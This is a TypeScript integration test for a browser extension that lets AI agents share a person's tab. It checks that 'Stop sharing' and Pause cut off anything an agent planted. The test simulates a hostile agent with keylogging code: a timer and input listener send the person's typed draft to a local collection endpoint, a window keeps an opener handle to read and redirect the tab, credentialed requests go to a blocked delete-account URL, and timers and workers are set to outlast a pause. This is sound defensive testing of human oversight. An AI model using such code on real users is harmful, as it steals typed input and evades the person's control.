/**
 * What an agent planted does not outlive the person taking it back (packages/extension/src/policy/agentPages.ts).
 * The person acts in their own tab and in chrome-relay's popup (the real one, over the tab they look at); agents
 * act through the built CLI and MCP; what reached each site is counted at its own fixture server, and the person's
 * page keeps its own clock (draft.html counts ticks), so "meanwhile" is measured in the page's time, not ours.
 *
 *   - "Stop sharing": code an agent planted in the shared tab (a timer reading the draft, a listener on every key)
 *     and a window it opened from there (holding `opener`) are live before — they forward what the person types —
 *     and silent after: nothing the person types next reaches the agent, nothing reaches the blocked site, the
 *     window cannot move the person's tab, and the tab is the person's, reloaded, with their draft in it;
 *   - Pause: a timer set before Pause that would submit a form, page timers, a dedicated, a shared and a service
 *     worker of the agent's page all stop while paused — also in an agent tab the person looks at meanwhile — while
 *     the person's own tab runs on; after Resume the agent's tab works again and its frozen timers go on.
 */
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFixtureServer, type FixtureServer } from './fixtureServer.js';
import { until } from './harness.js';
import { mcpClient, okJson, read } from './helpers.js';
import { blockListRig, extensionPage, openPopupOver, personClicks, saveOptions } from './personOptions.js';

const rig = blockListRig();
/** The agent's own site: what its planted code reports to, and where its paused pages live. */
let agentSite: FixtureServer;
let mcp: Client | undefined;
beforeAll(async () => {
  agentSite = await startFixtureServer('127.0.0.3');
  mcp = await mcpClient(rig.relay.env, '--caps', 'all');
  const person = await rig.relay.devtools.newPage();
  await person.goto(rig.crossServer.url('/session'));
  await person.close();
});
afterAll(async () => {
  await mcp?.close().catch(() => undefined);
  await agentSite?.close();
});

const ok = (...args: string[]): Promise<Record<string, unknown>> => okJson(rig.relay, ...args);

/** The tab id agents see for a page (its URL is unique). */
async function tabIdOf(fragment: string): Promise<number> {
  const tabs = await ok('tabs', '--json');
  const found = (tabs.windows as { tabs: { id: number; url: string }[] }[]).flatMap((w) => w.tabs).find((t) => t.url.includes(fragment));
  if (found === undefined) throw new Error(`no tab shows ${fragment}`);
  return found.id;
}

/** The agent runs `code` in a tab through MCP's js tool. */
async function plantViaMcp(tab: number, code: string): Promise<void> {
  const result = await mcp?.callTool({ name: 'js', arguments: { tab, expression: code } });
  expect(result?.isError ?? false, JSON.stringify(result?.content)).toBe(false);
}

/** Let the page's own clock run `ticks` more (50 ms each while in view), or until something took the page away. */
async function pageTime(page: Page, ticks: number): Promise<void> {
  const start = await read<number>(page, 'window.ticks');
  await until(async () => !page.url().includes('/draft.html') || ((await read<number | undefined>(page, 'window.ticks').catch(() => undefined)) ?? Infinity) >= start + ticks, 30_000, `${ticks} ticks of the person's page`);
}

describe("what an agent planted does not outlive the person's take-back", () => {
  it('after "Stop sharing", nothing planted in the tab or in a window it opened reads what the person types or reaches a blocked site', async () => {
    await saveOptions(rig.options, { blocked: '127.0.0.2' });
    const token = Date.now().toString(36);
    const person = await rig.relay.devtools.newPage();
    await person.goto(rig.relay.server.url(`/draft.html?mine=${token}`));
    // The person lends the tab from the popup.
    const popup = await openPopupOver(rig.relay, rig.options, person);
    await personClicks(popup, '#here-share');
    await until(async () => (await popup.$eval('#here-share', (el) => el.textContent)) === 'Stop sharing', 5000, 'shared');
    await popup.close();

    const shared = await tabIdOf(`mine=${token}`);
    const sink = agentSite.url('/collect');
    const blocked = rig.crossServer.url('/x?action=delete-account');
    // The agent plants a timer and a listener in the shared tab, and opens a window from it.
    await plantViaMcp(
      shared,
      `setInterval(() => { const typed = document.getElementById('draft').value; if (typed) fetch(${JSON.stringify(sink)} + '?typed=' + encodeURIComponent(typed), { mode: 'no-cors' }); fetch(${JSON.stringify(`${blocked}&via=planted`)}, { mode: 'no-cors', credentials: 'include' }); }, 150);
       document.addEventListener('input', (e) => navigator.sendBeacon(${JSON.stringify(sink)} + '?key=' + encodeURIComponent(e.target.value)));
       window.open(${JSON.stringify(rig.relay.server.url(`/button.html?agentwin=${token}`))}); 1`,
    );
    const agentWindow = await until(() => tabIdOf(`agentwin=${token}`).catch(() => 0), 5000, 'the window the agent opened');
    await ok(
      'js',
      '--tab',
      String(agentWindow),
      `window.keep = window.opener; setInterval(() => { try { const typed = window.keep.document.getElementById('draft').value; if (typed) fetch(${JSON.stringify(sink)} + '?opener=' + encodeURIComponent(typed), { mode: 'no-cors' }); if (typed.includes('SECRET')) window.keep.location.href = ${JSON.stringify(`${blocked}&via=opener`)}; } catch (e) {} }, 150); 1`,
    );
    // The control: while shared, all of it is live — what the person types reaches the agent three ways.
    await person.bringToFront();
    await person.type('#draft', 'warmup');
    for (const road of ['/collect?typed=warmup', '/collect?key=warmup', '/collect?opener=warmup']) await agentSite.waitForRequest(road);

    // The person takes the tab back.
    const again = await openPopupOver(rig.relay, rig.options, person);
    await personClicks(again, '#here-share');
    // The popup says the tab is theirs again — or is gone with the page it was opened over (Chrome closes it).
    await until(async () => ['Let agents use this tab', 'closed'].includes((await again.$eval('#here-share', (el) => el.textContent).catch(() => 'closed')) ?? ''), 5000, 'no longer shared');
    const takenBack = rig.crossServer.requests.length;
    // The person's page, as it is now (chrome-relay loaded it again, under a new tab id).
    const mine = await until(async () => {
      const pages = (await rig.relay.devtools.pages()).filter((page) => page.url().includes(`mine=${token}`));
      const fresh = pages.find((page) => page !== person) ?? pages[0];
      return fresh !== undefined && (await read<number>(fresh, 'window.ticks').catch(() => 0)) > 0 ? fresh : undefined;
    }, 10_000, "the person's page");
    await again.close().catch(() => undefined);
    const reported = agentSite.requests.length;
    await mine.bringToFront();
    await mine.type('#draft', `SECRET-${token}`);
    await pageTime(mine, 40);

    // The planted timer and listener are gone with their document; the window's kept handle finds a dead document
    // (what it read before, "warmup", is all it can read), and nothing the person types reaches the agent.
    expect(agentSite.requests.slice(reported).filter((r) => r.startsWith('/collect?typed') || r.startsWith('/collect?key'))).toEqual([]);
    expect(agentSite.requests.filter((r) => r.includes('SECRET'))).toEqual([]);
    expect(rig.crossServer.requests.slice(takenBack)).toEqual([]);
    expect(mine.url()).toContain(`/draft.html?mine=${token}`);
    expect(await read<string>(mine, "document.getElementById('draft').value")).toBe(`SECRET-${token}`);
    // The agent lost the tab (its id is gone); its window lives on, without a handle on the person's tab.
    const lost = await rig.relay.cli('snapshot', '--tab', String(shared));
    expect(lost.code).toBe(1);
    expect(['target_not_found', 'target_conflict']).toContain(lost.error?.code);
    const handles = await ok('js', '--tab', String(agentWindow), 'JSON.stringify({ opener: window.opener, closed: window.keep === null || window.keep.closed })');
    expect(handles.value).toBe(JSON.stringify({ opener: null, closed: true }));
  });

  it("Pause stops everything planted in the agents' tabs and their workers, never the person's tab; Resume lets it go on", async () => {
    await saveOptions(rig.options, { blocked: '' });
    const token = Date.now().toString(36);
    const person = await rig.relay.devtools.newPage();
    await person.goto(rig.relay.server.url(`/draft.html?clock=${token}`));
    // The agent's page: page timers, a dedicated, a shared and a service worker.
    const tab = (await ok('navigate', agentSite.url(`/button.html?paused=${token}`), '--new-tab')).tabId as number;
    const worker = (kind: string): string => `/worker.js?every=100&to=${encodeURIComponent(`/tick-${kind}`)}`;
    await plantViaMcp(
      tab,
      `setInterval(() => fetch('/tick-page', { mode: 'no-cors' }), 100);
       window.w = new Worker(${JSON.stringify(worker('dedicated'))});
       window.s = new SharedWorker(${JSON.stringify(worker('shared'))});
       navigator.serviceWorker.register(${JSON.stringify(worker('service'))}, { scope: '/' }); 1`,
    );
    // Another agent tab, with a timer only: the person will look at it while paused.
    const peek = (await ok('navigate', agentSite.url(`/button.html?peek=${token}`), '--new-tab')).tabId as number;
    await ok('js', '--tab', String(peek), `setInterval(() => fetch('/tick-peek', { mode: 'no-cors' }), 100); 1`);
    const count = (kind: string): number => agentSite.requests.filter((r) => r.startsWith(`/tick-${kind}`)).length;
    const kinds = ['page', 'dedicated', 'shared', 'service', 'peek'];
    await until(() => kinds.every((kind) => count(kind) > 3), 15_000, 'everything the agent planted running');
    // Last, just before the person pauses: a form the page will submit a few seconds from now.
    const deadline = Date.now() + 4000;
    await ok('js', '--tab', String(tab), `const f = document.createElement('form'); f.method = 'post'; f.action = '/order?planted=1'; document.body.append(f); setTimeout(() => f.submit(), ${deadline - Date.now()}); 1`);

    // The person pauses from the popup and goes back to their own tab.
    const popup = await extensionPage(rig.relay, 'popup.html');
    await personClicks(popup, '#pause');
    await until(async () => (await popup.$eval('#pause', (el) => el.getAttribute('aria-pressed'))) === 'true', 5000, 'paused');
    try {
      await person.bringToFront();
      // What was on its way when the person pressed Pause arrives; from then on, nothing.
      await pageTime(person, 10);
      const paused = agentSite.requests.length;
      // (Were the form sent already, the pause would have come after its moment: nothing this test could tell.)
      expect(agentSite.requests.filter((r) => r.startsWith('/order')), 'the form went before the pause did').toEqual([]);
      // The planted form's moment passes while paused, and the person's own page runs on all along.
      await until(() => Date.now() > deadline + 1000, 15_000, "the planted form's moment");
      await pageTime(person, 40);
      // The person looks at an agent tab meanwhile: Chrome wakes a page in view, and it still reaches nothing.
      const peekPage = await rig.relay.page(`peek=${token}`);
      await peekPage.bringToFront();
      await new Promise((resolve) => setTimeout(resolve, 1500));
      await person.bringToFront();
      await pageTime(person, 20);
      expect(agentSite.requests.slice(paused)).toEqual([]);
    } finally {
      await popup.bringToFront();
      await personClicks(popup, '#pause');
      await until(async () => (await popup.$eval('#pause', (el) => el.getAttribute('aria-pressed'))) === 'false', 5000, 'resumed');
      await popup.close();
    }
    // After Resume what was planted goes on (it was frozen, not ended): the form's timer fires, and the timers of the
    // tab the person looked at and the service worker run again. (The form leaves its page, and the page's own
    // timers and workers go with it.) The agent's tab works.
    const resumed = Object.fromEntries(kinds.map((kind) => [kind, count(kind)]));
    await agentSite.waitForRequest('/order?planted=1', 15_000);
    await until(() => ['peek', 'service'].every((kind) => count(kind) > (resumed[kind] ?? 0)), 15_000, 'the planted timers and workers running again');
    const after = await rig.relay.cli('snapshot', '--tab', String(tab));
    expect(after.code, after.stderr).toBe(0);
  });
});
